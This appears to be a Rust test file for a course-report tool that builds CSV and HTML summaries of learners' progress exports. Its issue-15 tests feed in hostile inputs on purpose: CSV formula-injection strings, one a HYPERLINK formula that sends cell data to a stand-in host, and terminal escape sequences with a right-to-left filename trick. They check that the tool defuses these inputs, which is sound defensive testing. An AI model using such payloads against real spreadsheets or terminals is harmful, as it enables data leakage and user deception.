//! `peerprep report` on a set of export files, checked figure by figure.

use crate::common::{CourseTest, repo_root, select_text};

crate::cases::cases! {
    w007_files_report_cannot_use => special_files,
}

/// What cannot live in git: a named pipe, a folder and a symlink among the exports.
fn special_files(t: &CourseTest) {
    let made = std::process::Command::new("mkfifo")
        .arg(t.path().join("exports/pipe.json"))
        .status()
        .expect("run mkfifo");
    assert!(made.success(), "mkfifo failed");
    std::fs::create_dir(t.path().join("exports/folder")).unwrap();
    std::os::unix::fs::symlink("alex.json", t.path().join("exports/link.json")).unwrap();
}

pub(crate) fn exports(names: &[&str]) -> Vec<String> {
    names
        .iter()
        .map(|n| {
            repo_root()
                .join("tests/fixtures/exports")
                .join(n)
                .to_string_lossy()
                .into_owned()
        })
        .collect()
}

#[test]
fn the_report_has_every_figure_in_html_and_csv() {
    let t = CourseTest::fixture("minimal");
    let files = exports(&["alex.json", "sam.json", "other-course.json", "broken.json"]);
    let mut args = vec!["report"];
    args.extend(files.iter().map(String::as_str));
    let run = t.run(&args);
    run.expect_code(0);
    assert!(
        run.stderr.contains(
            "warning[W007]: skipped: it is for the course \"another-course\", not \"test-course\""
        ),
        "{}",
        run.stderr
    );
    assert!(run.stderr.contains("other-course.json"));
    assert!(
        run.stderr
            .contains("warning[W007]: skipped: not valid JSON"),
        "{}",
        run.stderr
    );
    assert!(
        run.stdout
            .contains("Wrote the report on 2 progress files into ./report"),
        "{}",
        run.stdout
    );
    // Text cells are quoted (and a formula would get a `'`), numbers are not.
    assert_eq!(
        t.read("report/modules.csv"),
        r#""module","title","completed","learners","percent"
"01-welcome","Welcome",2,2,100
"02-features","Features",1,2,50
"#
    );
    // Questions by their text, with their module; nobody answered the last one, so it has no
    // percentage (an empty cell, not 0).
    assert_eq!(
        t.read("report/questions.csv"),
        r#""question","text","module","right","answered","percent"
"welcome-secret","A mentee asks you to promise not to tell. What do you say?","Welcome",2,2,100
"welcome-tell","Who can you tell about a worry?","Welcome",1,2,50
"welcome-999","In immediate danger you call 999.","Welcome",1,1,100
"welcome-dsl","Who is the Designated Safeguarding Lead?","Welcome",0,0,""
"#
    );
    assert_eq!(
        t.read("report/competencies.csv"),
        r#""competency","title","right","answered","percent"
"listening","Active listening",3,3,100
"boundaries","Boundaries",1,2,50
"#
    );
    // Endings by the first words of their text.
    assert_eq!(
        t.read("report/scenario-endings.csv"),
        r#""ending","scenario","title","kind","reached","learners","percent"
"promise/good-end","Promise you won't tell","Sam is getting help.","positive",2,2,100
"promise/mixed-end","Promise you won't tell","Sam got help, but felt questioned.","mixed",0,2,0
"promise/bad-end","Promise you won't tell","Nobody who could help knew.","negative",1,2,50
"#
    );
    // Alex rated "listening" only at the start, so only Sam's pair counts for it.
    assert_eq!(
        t.read("report/self-assessment.csv"),
        r#""statement","text","pairs","mean_before","mean_after","mean_change"
"disclosure","I know what to do if someone tells me they are being hurt.",2,2.50,4.00,+1.50
"listening","I can listen without jumping in.",1,2.00,5.00,+3.00
"#
    );
    assert_eq!(
        t.read("report/names.csv"),
        "\"name\"\n\"Alex Example\"\n\"Sam Sample\"\n"
    );
    let html = t.read("report/index.html");
    assert_eq!(select_text(&html, "h1"), ["Cohort impact report"]);
    assert_eq!(
        select_text(&html, ".report-stats div"),
        [
            "Progress files 2",
            "Finished 0 of 2",
            "Modules completed 3 of 4 (75%)",
            "Quiz answers right 4 of 5 (80%)"
        ]
    );
    assert_eq!(
        select_text(&html, "#r-self ~ table tbody tr:first-child :is(th, td)"),
        [
            "I know what to do if someone tells me they are being hurt.",
            "2.5",
            "4.0",
            "+1.5",
            "2"
        ]
    );
    assert_eq!(select_text(&html, "svg.chart").len(), 4);
    assert!(t.exists("report/.peerprep-output") && t.exists("report/assets/style.css"));
}

#[test]
fn names_can_be_left_out() {
    let t = CourseTest::fixture("minimal");
    let files = exports(&["alex.json", "sam.json"]);
    let mut args = vec!["report", "--anonymous", "--out", "anon"];
    args.extend(files.iter().map(String::as_str));
    t.run(&args).expect_code(0);
    assert!(!t.exists("anon/names.csv"));
    assert!(!t.read("anon/index.html").contains("Alex"));
}

#[test]
fn no_usable_file_is_exit_1_and_writes_nothing() {
    let t = CourseTest::fixture("minimal");
    let files = exports(&["other-course.json", "broken.json"]);
    let mut args = vec!["report"];
    args.extend(files.iter().map(String::as_str));
    let run = t.run(&args);
    run.expect_code(1);
    assert!(
        run.stderr.contains(
            "error[E070]: none of the 2 files is a usable progress export for this course"
        ),
        "{}",
        run.stderr
    );
    assert!(!t.exists("report"));
}

/// A version-1 export for the fixture course with `parts` (JSON object members) added.
pub(crate) fn export_with(parts: &str) -> String {
    let sep = if parts.is_empty() { "" } else { "," };
    format!(r#"{{"format":"peerprep-progress","version":1,"course":"test-course"{sep}{parts}}}"#)
}

/// Runs `peerprep ARGS` in the course folder, failing the test (not hanging it) after `secs`.
fn run_within(t: &CourseTest, args: &[&str], secs: u64) -> crate::common::Run {
    let mut child = t
        .command(args)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("run peerprep");
    let started = std::time::Instant::now();
    while child.try_wait().expect("wait").is_none() {
        if started.elapsed() > std::time::Duration::from_secs(secs) {
            let _ = child.kill();
            let _ = child.wait();
            panic!("`peerprep {}` did not finish in {secs} s", args.join(" "));
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    crate::common::Run::from(child.wait_with_output().expect("output"))
}

/// The cells of a CSV file, row by row (the header row included).
pub(crate) fn cells(csv_text: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(csv_text.as_bytes())
        .records()
        .map(|r| r.expect("a CSV row").iter().map(str::to_owned).collect())
        .collect()
}

#[test]
fn no_csv_cell_can_run_as_a_spreadsheet_formula_issue_15() {
    let t = CourseTest::fixture("minimal");
    // Text from the course and from learners' files, each starting with a formula character.
    t.edit("course/01-welcome.md", "title: Welcome", "title: \"=1+2\"");
    t.edit(
        "course/course.yaml",
        "title: Active listening",
        "title: \"+listening\"",
    );
    t.edit(
        "course/course.yaml",
        "statement: I can listen without jumping in.",
        "statement: \"-listen\"",
    );
    t.edit(
        "scenarios/promise.yaml",
        "title: Promise you won't tell",
        "title: \"@SUM(1)\"",
    );
    let hostile = [
        "=HYPERLINK(\"http://x.invalid/?\"&A1)",
        "+1+2",
        "-1+2",
        "@SUM(A1)",
        "\tTab",
        "\rReturn",
        "\nNew line",
        "Sam;=1+2",
    ];
    let mut args = vec!["report".to_owned()];
    for (i, name) in hostile.iter().enumerate() {
        let file = format!("e{i}.json");
        // Self-assessment falls from 4 to 2: a negative change we write ourselves.
        t.write(
            &file,
            export_with(&format!(
                r#""name":{},"complete":{{"01-welcome":"2026-11-01T10:00:00Z"}},"self_assessment":{{"listening":{{"start":4,"end":2}}}},"quiz":{{"welcome-secret":{{"correct":true}}}},"scenarios":{{"promise":["good-end"]}}"#,
                serde_json::to_string(name).unwrap()
            )),
        );
        args.push(file);
    }
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    t.run(&args).expect_code(0);

    let dangerous = ['=', '+', '-', '@', '\t', '\r', '\n'];
    for file in [
        "modules.csv",
        "questions.csv",
        "competencies.csv",
        "scenario-endings.csv",
        "self-assessment.csv",
        "learners.csv",
        "names.csv",
    ] {
        let text = t.read(&format!("report/{file}"));
        for row in cells(&text) {
            for cell in row {
                let number = cell.parse::<f64>().is_ok();
                assert!(
                    number || !cell.starts_with(dangerous),
                    "{file}: the cell {cell:?} would run as a formula\n{text}"
                );
            }
        }
        // Text is quoted, so no `;` or `,` inside it can start a cell of its own.
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(text.as_bytes());
        for record in reader.records() {
            let record = record.expect("a CSV row");
            let at = record.position().expect("a position").byte() as usize;
            assert!(text[at..].starts_with('"'), "{file}: {:?}", &text[at..]);
        }
    }
    let names = t.read("report/names.csv");
    let listed: Vec<String> = cells(&names)
        .into_iter()
        .skip(1)
        .map(|r| r[0].clone())
        .collect();
    let mut expected: Vec<String> = hostile
        .iter()
        .map(|n| {
            if n.starts_with(dangerous) {
                format!("'{n}")
            } else {
                (*n).to_owned()
            }
        })
        .collect();
    expected.sort();
    let mut listed_sorted = listed.clone();
    listed_sorted.sort();
    assert_eq!(listed_sorted, expected, "{names}");
    assert!(t.read("report/modules.csv").contains("\"'=1+2\""));
    // The numbers we write stay numbers, the negative change too.
    let self_rows = cells(&t.read("report/self-assessment.csv"));
    assert_eq!(
        self_rows[2],
        ["listening", "'-listen", "8", "4.00", "2.00", "-2.00"]
    );
    assert!(
        t.read("report/self-assessment.csv")
            .contains(",8,4.00,2.00,-2.00\n")
    );
}

#[test]
fn report_reads_only_regular_files_and_never_hangs_issue_15() {
    let t = CourseTest::fixture("minimal");
    let alex = exports(&["alex.json"]).remove(0);
    std::fs::create_dir(t.path().join("a-folder.json")).unwrap();
    let made = std::process::Command::new("mkfifo")
        .arg(t.path().join("pipe.json"))
        .status()
        .expect("run mkfifo");
    assert!(made.success(), "mkfifo failed");
    let run = run_within(
        &t,
        &["report", "/dev/zero", "pipe.json", "a-folder.json", &alex],
        60,
    );
    run.expect_code(0);
    for (file, what) in [
        ("/dev/zero", "is a character device"),
        ("pipe.json", "is a named pipe (FIFO)"),
        ("a-folder.json", "is a folder"),
    ] {
        let block = run
            .stderr
            .split("\n\n")
            .find(|b| b.contains(&format!("--> {file}\n")))
            .unwrap_or_else(|| panic!("no warning names {file}:\n{}", run.stderr));
        assert!(
            block.starts_with("warning[W007]: skipped: ")
                && block.contains(what)
                && block.contains("give the progress files"),
            "{block}"
        );
    }
    assert!(
        run.stdout.contains("Wrote the report on 1 progress files"),
        "{}",
        run.stdout
    );
}

#[test]
fn a_file_given_twice_or_through_a_symlink_is_counted_once_issue_15() {
    let t = CourseTest::fixture("minimal");
    t.write(
        "a/alex.json",
        std::fs::read(exports(&["alex.json"]).remove(0)).unwrap(),
    );
    t.write(
        "sam.json",
        std::fs::read(exports(&["sam.json"]).remove(0)).unwrap(),
    );
    std::os::unix::fs::symlink("a/alex.json", t.path().join("link.json")).unwrap();
    let run = t.run(&[
        "report",
        "a/alex.json",
        "sam.json",
        "a/alex.json",
        "./a/../a/alex.json",
        "link.json",
    ]);
    run.expect_code(0);
    assert!(
        run.stdout.contains("Wrote the report on 2 progress files"),
        "{}",
        run.stdout
    );
    assert_eq!(
        run.stderr
            .matches("is the same file as a/alex.json")
            .count(),
        3,
        "{}",
        run.stderr
    );
    assert!(run.stderr.contains("--> link.json"), "{}", run.stderr);
    assert!(run.stderr.contains("counted once"), "{}", run.stderr);
    assert_eq!(
        t.read("report/modules.csv").lines().nth(1),
        Some("\"01-welcome\",\"Welcome\",2,2,100")
    );
}

#[test]
fn an_export_with_a_byte_order_mark_is_read_issue_15() {
    let t = CourseTest::fixture("minimal");
    t.write(
        "bom.json",
        format!("\u{feff}{}", export_with(r#""name":"Bo""#)),
    );
    let run = t.run(&["report", "bom.json"]);
    run.expect_code(0);
    assert!(run.stderr.is_empty(), "{}", run.stderr);
    assert_eq!(t.read("report/names.csv"), "\"name\"\n\"Bo\"\n");
}

#[test]
fn a_version_of_the_wrong_type_is_named_for_what_it_is_issue_15() {
    let t = CourseTest::fixture("minimal");
    t.write(
        "text.json",
        r#"{"format":"peerprep-progress","version":"1","course":"test-course"}"#,
    );
    let run = t.run(&["report", "text.json"]);
    run.expect_code(1);
    assert!(
        run.stderr.contains(
            "warning[W007]: skipped: `version` must be the number 1, but it is the text \"1\""
        ),
        "{}",
        run.stderr
    );
}

#[test]
fn control_characters_from_learners_files_are_shown_escaped_issue_15() {
    let t = CourseTest::fixture("minimal");
    // An escape sequence that would clear the screen and a right-to-left override, in the course
    // id, in a value of the wrong type, and in the file's name.
    let evil = "\u{1b}[2J\u{1b}]0;pwned\u{7}\u{202e}gnp.exe";
    t.write(
        "course.json",
        format!(
            r#"{{"format":"peerprep-progress","version":1,"course":{}}}"#,
            serde_json::to_string(evil).unwrap()
        ),
    );
    t.write(
        "type.json",
        export_with(&format!(
            r#""scenarios":{{"promise":{}}}"#,
            serde_json::to_string(evil).unwrap()
        )),
    );
    t.write(format!("name{evil}.json").as_str(), "{");
    let run = t.run(&[
        "report",
        "course.json",
        "type.json",
        &format!("name{evil}.json"),
    ]);
    run.expect_code(1);
    for raw in ['\u{1b}', '\u{7}', '\u{202e}'] {
        assert!(
            !run.stderr.contains(raw),
            "{raw:?} reached the terminal:\n{}",
            run.stderr.escape_debug()
        );
    }
    assert_eq!(
        run.stderr
            .matches("\\u{1b}[2J\\u{1b}]0;pwned\\u{7}\\u{202e}gnp.exe")
            .count(),
        3,
        "{}",
        run.stderr
    );
}
